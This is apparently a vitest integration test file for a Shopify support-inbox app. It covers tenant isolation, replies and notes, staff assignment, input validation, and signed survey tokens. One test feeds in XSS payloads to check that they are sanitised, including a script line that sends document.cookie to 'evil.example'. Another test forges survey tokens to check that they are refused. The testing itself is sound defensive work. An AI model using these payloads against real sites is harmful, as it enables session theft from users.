import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { ManualClock, setClock } from "~/clock.server";
import prisma from "~/db.server";
import { resetEnvForTests } from "~/env.server";
import { closeConversation } from "~/modules/inbox/actions.server";
import { recordInboundMessage } from "~/modules/inbox/conversations.server";
import { closeEmailTransports } from "~/modules/messaging/email.server";
import { createToken } from "~/modules/messaging/tokens.server";
import { encryptSecret } from "~/modules/shop/secrets.server";
import { buildPublishedFaq } from "~/modules/storefront/faq";
import { createEmulator, createShopStore, startEmulatorServer, type EmulatorServer } from "../support/emulator";
import { createSession, createShop } from "../support/factories";
import { startSmtpSink, type SmtpSink } from "../support/smtp-sink";
// Types only: the route modules are imported after the environment is switched to demo mode (beforeAll).
import type * as ListRoute from "~/routes/app.inbox";
import type * as DetailRoute from "~/routes/app.inbox_.$id";
import type * as UpdatesRoute from "~/routes/app.inbox_.updates";
import type * as RepliesRoute from "~/routes/app.inbox_.replies";
import type * as SurveyRoute from "~/routes/s.$token";

/**
 * The inbox pages' loaders and actions with real Requests, in demo mode (the admin acts as the demo shop), the
 * shop emulator answering the Admin API (FAQ suggestions) and a real SMTP sink.
 */

const DEMO_SHOP = "kindly-demo.myshopify.com";
const OTHER_SHOP = "someone-else.myshopify.com";
const T0 = new Date("2026-11-23T09:00:00Z");
const URL_BASE = "http://localhost:3000";

let list: typeof ListRoute;
let detail: typeof DetailRoute;
let updates: typeof UpdatesRoute;
let replies: typeof RepliesRoute;
let survey: typeof SurveyRoute;
let smtp: SmtpSink;
let server: EmulatorServer;
let clock: ManualClock;

beforeAll(async () => {
  process.env.KINDLY_DEMO = "1";
  resetEnvForTests();
  const store = createShopStore({ seed: 7, shop: DEMO_SHOP });
  const faq = buildPublishedFaq(
    [
      {
        locale: "en",
        topic: "Delivery",
        question: "When will my parcel arrive?",
        answer: "Parcels arrive in 2 to 4 working days; the tracking link is in your shipping email.",
        position: 0,
        published: true,
      },
    ],
    "en",
    T0,
  );
  store.setMetafields([
    {
      ownerId: store.shop.appInstallationId,
      namespace: "kindly",
      key: "faq",
      type: "json",
      value: JSON.stringify(faq),
    },
  ]);
  server = startEmulatorServer(createEmulator({ shops: [store] }));
  smtp = await startSmtpSink();
  await createShop(DEMO_SHOP, {
    name: "Atelier Lumière",
    senderName: "Léa",
    senderEmail: "lea@atelier-lumiere.example",
    ianaTimezone: "Europe/Paris",
    smtpUrlEncrypted: encryptSecret(smtp.url),
  });
  await createSession(DEMO_SHOP);
  await createShop(OTHER_SHOP);
  list = await import("~/routes/app.inbox");
  detail = await import("~/routes/app.inbox_.$id");
  updates = await import("~/routes/app.inbox_.updates");
  replies = await import("~/routes/app.inbox_.replies");
  survey = await import("~/routes/s.$token");
});

afterAll(async () => {
  closeEmailTransports();
  await smtp?.close();
  server?.close();
  delete process.env.KINDLY_DEMO;
  resetEnvForTests();
});

beforeEach(() => {
  clock = new ManualClock(T0);
  setClock(clock);
});

async function thrownBy(promise: Promise<unknown>): Promise<Response> {
  try {
    await promise;
  } catch (error) {
    if (error instanceof Response) return error;
    throw error;
  }
  throw new Error("expected a thrown Response");
}

function loadDetail(id: string, query = "") {
  return detail.loader({ request: new Request(`${URL_BASE}/app/inbox/${id}${query}`), params: { id }, context: {} });
}

async function act(id: string, body: unknown) {
  const request = new Request(`${URL_BASE}/app/inbox/${id}`, {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify(body),
  });
  const result: unknown = await detail.action({ request, params: { id }, context: {} });
  if (result && typeof result === "object" && "type" in result && result.type === "DataWithResponseInit") {
    const wrapped = result as unknown as { data: { ok: boolean; message: string }; init: ResponseInit | null };
    return { status: wrapped.init?.status ?? 200, body: wrapped.data };
  }
  return { status: 200, body: result as { ok: boolean; message: string } };
}

async function conversationIn(shop: string, data: Partial<Parameters<typeof recordInboundMessage>[1]> = {}) {
  const recorded = await recordInboundMessage(prisma, {
    shop,
    channel: "EMAIL",
    from: { email: "camille@example.org", name: "Camille" },
    subject: "Where is my parcel?",
    body: "Hello, when will my parcel arrive?",
    emailMessageId: `<m-${Math.random().toString(36).slice(2)}@mail.example.org>`,
    receivedAt: clock.now(),
    ...data,
  });
  return recorded.conversationId;
}

describe("tenant isolation", () => {
  it("a conversation of another shop is a 404 in every loader and action, and stays untouched", async () => {
    const theirs = await conversationIn(OTHER_SHOP);
    expect((await thrownBy(loadDetail(theirs))).status).toBe(404);
    for (const body of [
      { intent: "reply", body: "hello" },
      { intent: "note", body: "note" },
      { intent: "assign-me" },
      { intent: "unassign" },
      { intent: "close" },
      { intent: "reopen" },
      { intent: "retry", messageId: "x" },
      { intent: "apology", kind: "PERCENTAGE", value: 10, expiresInDays: 30 },
    ]) {
      expect((await thrownBy(act(theirs, body))).status, body.intent).toBe(404);
    }
    const polled = (await updates.loader({
      request: new Request(`${URL_BASE}/app/inbox/updates?id=${theirs}`),
      params: {},
      context: {},
    })) as Response;
    expect(polled.status).toBe(404);
    const untouched = await prisma.conversation.findUniqueOrThrow({
      where: { id: theirs },
      include: { messages: true },
    });
    expect(untouched).toMatchObject({ status: "OPEN", assigneeId: null, unreadCount: 1 });
    expect(untouched.messages).toHaveLength(1);
    expect(smtp.messages()).toHaveLength(0);

    // The list never shows it, whatever the search.
    const listed = await list.loader({
      request: new Request(`${URL_BASE}/app/inbox?status=ALL&q=camille`),
      params: {},
      context: {},
    });
    expect(listed.list.rows.map((row) => row.id)).not.toContain(theirs);

    // Saved replies of another shop cannot be edited or deleted either.
    const foreign = await prisma.savedReply.create({ data: { shop: OTHER_SHOP, title: "Theirs", body: "x" } });
    for (const body of [
      { intent: "update", id: foreign.id, title: "Mine now", body: "y" },
      { intent: "delete", id: foreign.id },
    ]) {
      const request = new Request(`${URL_BASE}/app/inbox/replies`, {
        method: "POST",
        headers: { "Content-Type": "application/json" },
        body: JSON.stringify(body),
      });
      expect((await thrownBy(replies.action({ request, params: {}, context: {} }))).status).toBe(404);
    }
    expect(await prisma.savedReply.findUniqueOrThrow({ where: { id: foreign.id } })).toMatchObject({ title: "Theirs" });
  });
});

describe("conversation page", () => {
  it("shows the thread, marks it read, keeps the staff 'online', suggests FAQ answers and replies by email", async () => {
    const id = await conversationIn(DEMO_SHOP);
    const data = await loadDetail(id);
    expect(data.messages.map((m) => m.text)).toEqual(["Hello, when will my parcel arrive?"]);
    expect(data.suggestions[0]).toMatchObject({ question: "When will my parcel arrive?" });
    expect(data.clock).toMatchObject({ kind: "FIRST_RESPONSE", overdue: false });
    expect(data.staff).toEqual({ id: "demo-staff", name: "Demo staff (you)" });
    expect(await prisma.conversation.findUniqueOrThrow({ where: { id } })).toMatchObject({ unreadCount: 0 });
    expect((await prisma.shop.findUniqueOrThrow({ where: { shop: DEMO_SHOP } })).staffLastSeenAt).toEqual(T0);

    const before = (
      (await (
        (await updates.loader({
          request: new Request(`${URL_BASE}/app/inbox/updates?id=${id}`),
          params: {},
          context: {},
        })) as Response
      ).json()) as { version: string }
    ).version;
    expect(await act(id, { intent: "reply", body: "  " })).toMatchObject({ status: 400 });
    expect(await act(id, { intent: "reply", body: "Tomorrow morning!" })).toMatchObject({
      status: 200,
      body: { ok: true },
    });
    const mail = await smtp.waitFor((m) => m.subject === "Re: Where is my parcel?");
    expect(mail.text).toContain("Tomorrow morning!");
    const after = (
      (await (
        (await updates.loader({
          request: new Request(`${URL_BASE}/app/inbox/updates?id=${id}`),
          params: {},
          context: {},
        })) as Response
      ).json()) as { version: string }
    ).version;
    expect(after).not.toBe(before);

    expect(await act(id, { intent: "note", body: "Customer is in a hurry" })).toMatchObject({ body: { ok: true } });
    expect(await act(id, { intent: "assign-me" })).toMatchObject({ body: { ok: true } });
    expect(await act(id, { intent: "close" })).toMatchObject({
      body: { ok: true, message: expect.stringContaining("survey was sent") },
    });
    const closed = await loadDetail(id);
    expect(closed.conversation).toMatchObject({ status: "CLOSED", assigneeName: "Demo staff (you)" });
    expect(closed.messages.map((m) => [m.author, m.kind])).toEqual([
      ["SHOPPER", "MESSAGE"],
      ["STAFF", "MESSAGE"],
      ["NOTE", "MESSAGE"],
      ["SYSTEM", "CSAT_REQUEST"],
    ]);
    // Notes are never sent: one reply and one survey went out, nothing else.
    expect(smtp.messages().filter((m) => m.to.some((to) => to.includes("camille@example.org")))).toHaveLength(2);
  });

  it("renders hostile email and chat content inert: sanitised HTML, no remote images unless asked, text kept raw", async () => {
    const hostileHtml =
      '<p onmouseover="alert(1)">Hi</p><script>alert(2)</script><img src="https://tracker.example/pixel.gif" onerror="alert(3)"><a href="javascript:alert(4)">x</a>';
    const id = await conversationIn(DEMO_SHOP, {
      from: { email: "mallory@example.org" },
      body: "<img src=x onerror=alert(5)> hello",
      bodyHtml: hostileHtml,
    });
    const chat = await conversationIn(DEMO_SHOP, {
      channel: "CHAT",
      from: { visitorId: "visitor-1", name: '"><svg onload=alert(6)>' },
      body: "<script>document.location='https://evil.example/?c='+document.cookie</script>",
      bodyHtml: null,
      emailMessageId: null,
    });
    const data = await loadDetail(id);
    const [message] = data.messages;
    expect(message.html).not.toMatch(/<script|onmouseover|onerror|javascript:|<img/i);
    expect(message.blockedImages).toBe(1);
    // The text is kept as written; React renders it as text (escaped), never as markup.
    expect(message.text).toBe("<img src=x onerror=alert(5)> hello");
    const withImages = await loadDetail(id, "?images=1");
    expect(withImages.messages[0].html).toContain('src="https://tracker.example/pixel.gif"');
    expect(withImages.messages[0].html).not.toMatch(/onerror/);

    const chatData = await loadDetail(chat);
    expect(chatData.messages[0]).toMatchObject({ html: null, text: expect.stringContaining("<script>") });
  });

  it("assigns to a staff member known to this shop's inbox, never to an id made up in the request", async () => {
    const id = await conversationIn(DEMO_SHOP);
    const elsewhere = await conversationIn(DEMO_SHOP, { from: { email: "other@example.org" } });
    await prisma.conversationEvent.create({
      data: { shop: DEMO_SHOP, conversationId: elsewhere, type: "CLOSED", actorId: "staff-42", actorName: "Noah" },
    });
    await prisma.conversationEvent.create({
      data: { shop: OTHER_SHOP, conversationId: elsewhere, type: "CLOSED", actorId: "intruder", actorName: "Eve" },
    });
    const data = await loadDetail(id);
    expect(data.team.map((member) => member.name)).toEqual(["Demo staff (you)", "Noah"]);
    expect(await act(id, { intent: "assign", staffId: "staff-42" })).toMatchObject({ body: { ok: true } });
    expect(await prisma.conversation.findUniqueOrThrow({ where: { id } })).toMatchObject({
      assigneeId: "staff-42",
      assigneeName: "Noah",
    });
    expect(await act(id, { intent: "assign", staffId: "intruder" })).toMatchObject({ status: 400 });
    expect((await prisma.conversation.findUniqueOrThrow({ where: { id } })).assigneeId).toBe("staff-42");
  });

  it("validates input: unknown intents and oversized replies get a 400 with a message", async () => {
    const id = await conversationIn(DEMO_SHOP);
    expect(await act(id, { intent: "explode" })).toMatchObject({ status: 400, body: { ok: false } });
    expect(await act(id, { intent: "reply", body: "x".repeat(10_001) })).toMatchObject({
      status: 400,
      body: { message: expect.stringContaining("10000") },
    });
  });
});

describe("email survey links", () => {
  async function surveyedConversation() {
    const id = await conversationIn(DEMO_SHOP, {
      from: { email: `s-${Math.random().toString(36).slice(2)}@example.org` },
    });
    await closeConversation(DEMO_SHOP, id, { id: "s", name: "Staff" }, clock.now());
    const request = await prisma.conversationMessage.findFirstOrThrow({
      where: { conversationId: id, kind: "CSAT_REQUEST" },
    });
    return { id, request };
  }

  function getSurvey(token: string) {
    return survey.loader({
      request: new Request(`${URL_BASE}/s/${token}`),
      params: { token },
      context: {},
    }) as Promise<Response>;
  }
  function postSurvey(token: string, form: Record<string, string>) {
    return survey.action({
      request: new Request(`${URL_BASE}/s/${token}`, { method: "POST", body: new URLSearchParams(form) }),
      params: { token },
      context: {},
    }) as Promise<Response>;
  }

  it("the emailed links carry signed scores; the page records one answer with a comment", async () => {
    const { id, request } = await surveyedConversation();
    const mail = await smtp.waitFor((m) => m.text.includes(`/s/`) && m.headers.some(([, v]) => v.includes(request.id)));
    const links = [...mail.text.matchAll(/(\d): (https?:\/\/\S+\/s\/(\S+))/g)];
    // The merchant sees the survey, not its signed links (clicking them would answer for the shopper).
    const shown = (await loadDetail(id)).messages.find((m) => m.kind === "CSAT_REQUEST");
    expect(shown?.text).toContain("[rating link]");
    expect(shown?.text).not.toContain("/s/");
    expect(links.map((link) => link[1])).toEqual(["1", "2", "3", "4", "5"]);
    const fourToken = links[3][3];

    // GET only shows the page (mail scanners open links): nothing is recorded.
    const page = await getSurvey(fourToken);
    expect(page.status).toBe(200);
    expect(await page.text()).toContain('value="4" checked');
    expect((await prisma.conversation.findUniqueOrThrow({ where: { id } })).csatScore).toBeNull();

    const done = await postSurvey(fourToken, { score: "4", comment: "<b>quick</b>" });
    expect(done.status).toBe(200);
    expect(await prisma.conversation.findUniqueOrThrow({ where: { id } })).toMatchObject({
      csatScore: 4,
      csatComment: "<b>quick</b>",
    });
    const again = await postSurvey(links[0][3], { score: "1" });
    expect(await again.text()).toContain("already have your answer");
    expect((await prisma.conversation.findUniqueOrThrow({ where: { id } })).csatScore).toBe(4);
  });

  it("refuses a forged, tampered, wrong-kind or unknown link and records nothing", async () => {
    const { id, request } = await surveyedConversation();
    const genuine = createToken({ kind: "CSAT", messageId: request.id, score: 5 });
    const [payload, tag] = genuine.split(".");
    const forgedPayload = Buffer.from(JSON.stringify({ k: "s", m: request.id, x: 9_999_999_999, s: 1 })).toString(
      "base64url",
    );
    const forged = [
      `${forgedPayload}.${tag}`,
      `${payload}.${tag.slice(0, -2)}AA`,
      createToken({ kind: "UNSUBSCRIBE", messageId: request.id }),
      createToken({ kind: "CSAT", messageId: "not-a-survey", score: 1 }),
      "garbage",
    ];
    for (const token of forged) {
      expect((await getSurvey(token)).status, token).toBe(400);
      expect((await postSurvey(token, { score: "1" })).status, token).toBe(400);
    }
    expect((await prisma.conversation.findUniqueOrThrow({ where: { id } })).csatScore).toBeNull();
    // An expired genuine link is refused too.
    const expired = createToken(
      { kind: "CSAT", messageId: request.id, score: 5 },
      { now: new Date("2020-01-01T00:00:00Z") },
    );
    expect((await postSurvey(expired, { score: "5" })).status).toBe(400);
  });
});
